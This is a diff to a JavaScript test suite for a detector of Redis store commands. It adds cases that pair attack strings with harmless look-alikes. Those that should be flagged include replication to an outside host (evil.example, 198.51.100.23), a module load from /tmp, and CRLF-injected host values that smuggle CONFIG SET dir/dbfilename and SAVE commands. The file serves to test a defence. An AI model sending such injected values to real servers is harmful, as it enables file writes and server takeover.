@@ -39,6 +39,9 @@ describe("store commands", () => {
       "SLAVEOF/198.51.100.23/21000",
       "replicaof evil.example 6379",
       "/MODULE/LOAD//tmp/exp.so",
+      // On a line of its own after a line break: a host field written into the store's socket.
+      "127.0.0.1\r\nCONFIG SET dir /tmp\r\nCONFIG SET dbfilename x\r\nSAVE\r\n",
+      "cache.internal\n  slaveof 198.51.100.23 21000\n",
     ])
       expect(storeCommand(v), v).toBe(true);
   });
@@ -54,6 +57,7 @@ describe("store commands", () => {
       "slaveof is deprecated; use replicaof",
       "module load order matters",
       "set key 0 3600 44 in the docs",
+      "Notes:\nconfig set up on Monday\nmodule loading is slow",
     ])
       expect(storeCommand(v), JSON.stringify(v)).toBe(false);
   });
